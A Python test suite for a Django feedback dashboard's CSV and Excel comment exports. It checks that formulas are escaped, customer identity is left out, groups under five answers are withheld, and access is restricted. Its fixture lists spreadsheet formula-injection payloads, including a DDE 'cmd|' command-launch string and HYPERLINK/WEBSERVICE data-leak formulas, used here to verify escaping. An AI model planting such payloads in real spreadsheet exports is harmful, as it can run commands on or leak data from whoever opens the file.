"""Files for a spreadsheet: no text is a formula, numbers stay numbers, small groups stay unread."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest
from django.contrib.auth.models import Group, User
from django.utils import timezone, translation
from openpyxl import load_workbook

from feedback.queries import Span, explained
from insights import exports
from insights.accounts import Role
from tests.insights.makers import TODAY, TOMORROW, ask, give
from tests.makers import make_category, make_customer, make_product, make_touchpoint

SIGNS = "=+-@＝＋－＠"
CALLS = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://example.com?"&A1,"x")',
    "WEBSERVICE(A1)",
]
BEFORE = [" ", "\t", "\r", "\n", "\0", "\x01", "\x1f", "\x7f", "\xa0", "\u200b", "\u202e", "\ufeff"]
FORMULAS = [
    *(f"{sign}{call}" for sign in SIGNS for call in CALLS),
    *(f"{blank}=1+1" for blank in BEFORE),
    *(f"{blank}－1+1" for blank in BEFORE),
    "\t\t =1+1",
    "-100-cmd",
    "+31 6 1234=5678",
    "=",
]
# What a program that splits somewhere else would find inside.
INSIDE = [f"Prima{split}{blank}=1+1" for split in ";\t|\r\n" for blank in ("", " ", "\u200b", '"')]


def csv_of(*rows) -> str:
    return "".join(exports.csv_file(rows))


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def read_xlsx(content: bytes) -> list[tuple]:
    book = load_workbook(io.BytesIO(content))
    [sheet] = book.worksheets
    return list(sheet.iter_rows())


# -- No text is a formula ------------------------------------------------------------------------


def test_there_are_sixty_formulas():
    assert len(set(FORMULAS)) == 60


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_text_in_a_csv_file(formula):
    [[cell, other]] = read_csv(csv_of([formula, "harmless"]))
    assert cell.startswith("'")
    assert (cell.replace("'", ""), other) == (formula.replace("'", ""), "harmless")


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_text_in_a_workbook(formula):
    [[cell]] = read_xlsx(exports.xlsx_file([[formula]], "comments"))
    assert cell.data_type == "s"
    assert cell.value.startswith("'")


@pytest.mark.parametrize("text", [*FORMULAS, *INSIDE])
def test_whoever_splits_at_another_place_finds_no_formula_either(text):
    """As an Excel with semicolons does: to it the quotes inside a line are letters."""
    line = csv_of(["2026-11-24", text, "x"])
    for split in (";", "\t", "|", "\n", "\r"):
        pieces = re.split(f"[{re.escape(split)}\r\n]", line)
        for piece in pieces:
            bare = re.sub(r"^[\s\x00-\x1f\x7f\xa0\u200b\u202e\ufeff\"]+", "", piece)
            assert not bare.startswith(tuple(SIGNS))


@pytest.mark.parametrize("text", ["#N/A", "#REF!", "=TRUE()", "TRUE", "1e5", "2026-01-01", "'=1"])
def test_a_workbook_never_guesses_what_a_text_is(text):
    [[cell]] = read_xlsx(exports.xlsx_file([[text]], "comments"))
    assert cell.data_type == "s"


@pytest.mark.parametrize("value", [-100, 0, 9, -2.5])
def test_a_number_stays_a_number(value):
    assert csv_of([value, "x"]).splitlines() == [f'\ufeff{value},"x"']
    [[cell]] = read_xlsx(exports.xlsx_file([[value]], "comments"))
    assert (cell.data_type, cell.value) == ("n", value)


@pytest.mark.parametrize(
    "text", ["Prima!", "10,- euro", "é € 漢 🙂", "a=1", "", "-100", "regel\n2"]
)
def test_an_ordinary_text_is_left_alone(text):
    assert read_csv(csv_of([text, "x"])) == [[text, "x"]]
    [[cell, _other]] = read_xlsx(exports.xlsx_file([[text, "x"]], "comments"))
    assert (cell.value or "") == text


def test_what_xml_cannot_hold_is_left_out():
    text = "a\x00\x08\x0b\x1f\ufffe\uffffb\tc"
    [[cell]] = read_xlsx(exports.xlsx_file([[text]], "comments"))
    assert cell.value == "ab\tc"


def test_a_csv_file_says_that_it_is_utf_8():
    assert csv_of(["é"]).encode().startswith(b"\xef\xbb\xbf")


# -- What is in it -------------------------------------------------------------------------------


@pytest.fixture
def staff(client):
    user = User.objects.create_user("noor@example.org", "noor@example.org", "x")
    user.groups.add(Group.objects.get(name=Role.MARKETER))
    client.force_login(user)
    return client


def download(staff, kind: str, query: str = "kpi=nps"):
    return staff.get(f"/comments.{kind}?{query}")


def rows_of(response) -> list[dict[str, str]]:
    text = b"".join(response).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.django_db
def test_a_file_holds_the_selection_and_never_the_customer(staff):
    at = timezone.localtime().replace(microsecond=0)
    give(
        "nps",
        [2] * 5,
        at=at,
        comment="Te veel mail",
        reason="too_often",
        language="nl",
        channel="email",
        customer_type="regular",
        customer=make_customer(reference="K-4711", name="Fenna"),
        touchpoint=make_touchpoint(name="Nieuwsbrief"),
        product=make_product(sku="P1", name="Deurmat"),
        category=make_category(name="Mats"),
    )
    give("nps", [9] * 5, at=at, comment="other channel", channel="web")
    give("nps", [9], at=at, channel="email")
    give("thumb", [1], at=at, comment="other scale", channel="email")
    give("nps", [9], at=at - timedelta(days=200), comment="other period", channel="email")
    response = download(staff, "csv", "kpi=nps&channel=email")
    content = b"".join(response)
    assert content.count(b"\n") == 6
    assert b"K-4711" not in content
    assert b"Fenna" not in content
    first, *_others = csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert first == {
        "answered_on": at.date().isoformat(),
        "scale": "nps",
        "value": "2",
        "reason": "too_often",
        "comment": "Te veel mail",
        "touchpoint": "Nieuwsbrief",
        "product": "P1",
        "category": "Mats",
        "channel": "email",
        "language": "nl",
    }


@pytest.mark.django_db
def test_a_workbook_holds_the_same_as_the_csv_file(staff):
    give("nps", [9, 2, 0, 10, 7], on=timezone.localdate(), comment="=1+1", reason="fun")
    [head, *rows] = read_xlsx(download(staff, "xlsx").content)
    names = [cell.value for cell in head]
    told = [{name: str(cell.value or "") for name, cell in zip(names, row)} for row in rows]  # noqa: B905
    in_csv = rows_of(download(staff, "csv"))
    assert [row | {"value": ""} for row in told] == [row | {"value": ""} for row in in_csv]
    assert [row[2].value for row in rows] == [int(row["value"]) for row in in_csv]
    assert {cell.data_type for row in rows for cell in row if cell.value} == {"s", "n"}


@pytest.mark.django_db
def test_a_day_is_that_of_the_organisation():
    give("nps", [9], at=datetime(2026, 7, 1, 22, 30, tzinfo=UTC), comment="zomer")
    give("nps", [9], at=datetime(2026, 11, 1, 22, 30, tzinfo=UTC), comment="winter")
    found = explained(Span("nps", datetime(2026, 1, 1).date(), TOMORROW))
    [_head, winter, summer] = exports.comments(found, exports.MAX_ROWS)
    assert winter[0] == "2026-11-01"
    assert summer[0] == "2026-07-02"


@pytest.mark.django_db
@pytest.mark.parametrize(("answers", "note"), [(3, 0), (4, 1)])
def test_a_file_that_is_cut_off_says_so(answers, note):
    give("nps", [9] * answers, comment="words")
    with translation.override("en"):
        rows = list(exports.comments(explained(Span("nps", TODAY, TOMORROW)), limit=3))
    assert len(rows) == 1 + 3 + note
    assert ("Only the newest 3 rows" in str(rows[-1])) is bool(note)


@pytest.mark.django_db
@pytest.mark.parametrize("number", [1, 3])
def test_a_file_takes_one_query_however_long_it_is(number, django_assert_num_queries):
    for _ in range(number):
        give("nps", [9], comment="words", product=make_product(), category=make_category())
    with django_assert_num_queries(1):
        assert (
            len(list(exports.comments(explained(Span("nps", TODAY, TOMORROW)), exports.MAX_ROWS)))
            == 1 + number
        )


# -- Who gets it ---------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize(("answers", "status"), [(0, 404), (4, 404), (5, 200)])
def test_under_five_answers_there_is_no_file(staff, kind, answers, status):
    give("nps", [9] * answers, on=timezone.localdate(), comment="words")
    assert download(staff, kind).status_code == status


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_invitations_have_nothing_to_say(staff, kind):
    ask(9, on=timezone.localdate())
    give("nps", [9] * 9, on=timezone.localdate(), comment="words")
    assert download(staff, kind).status_code == 200
    assert download(staff, kind, "kpi=response_rate").status_code == 404


@pytest.mark.django_db
@pytest.mark.parametrize(
    "query",
    ["kpi=nope", "channel=pigeon", "product=nope", "period=own&from=2026-02-02&to=2026-02-01"],
)
def test_a_filter_that_makes_no_sense_gives_no_file(staff, query):
    give("nps", [9] * 9, on=timezone.localdate(), comment="words")
    make_product()
    assert download(staff, "csv", query).status_code == 400


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_stranger_gets_nothing(client, kind):
    give("nps", [9] * 9, on=timezone.localdate(), comment="words")
    response = client.get(f"/comments.{kind}?kpi=nps")
    assert (response.status_code, response.content) == (302, b"")


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("kind", "content_type"), [("csv", "text/csv; charset=utf-8"), ("xlsx", "application/vnd.")]
)
def test_a_file_is_named_after_its_days_and_kept_nowhere(staff, kind, content_type):
    give("nps", [9] * 5, on=timezone.localdate(), comment="words")
    today = timezone.localdate()
    first = today - timedelta(days=9)
    response = download(staff, kind, f"kpi=nps&period=own&from={first}&to={today}")
    name = f"comments-{first}-{today}.{kind}"
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'
    assert response["Cache-Control"] == "no-store"
    assert response["Content-Type"].startswith(content_type)
    b"".join(response)


@pytest.mark.django_db
def test_the_page_links_to_the_file_of_its_own_selection(staff):
    give("nps", [9] * 5, on=timezone.localdate(), comment="words", channel="web")
    page = staff.get("/?kpi=nps&channel=web&period=4w").content.decode()
    assert 'href="/comments.csv?period=4w&amp;channel=web&amp;kpi=nps&amp;slice=category"' in page
    link = re.search(r'href="(/comments\.xlsx[^"]*)"', page)[1].replace("&amp;", "&")
    assert staff.get(link).status_code == 200


def test_many_empty_lines_cost_no_more_than_their_number():
    """A pattern that looked ahead over all of them from each would take minutes for a file."""
    [line] = list(exports.csv_file([["a" + "\n" * 200_000 + "=1+1"]]))[1:]
    assert line.count("\n'=1+1") == 1
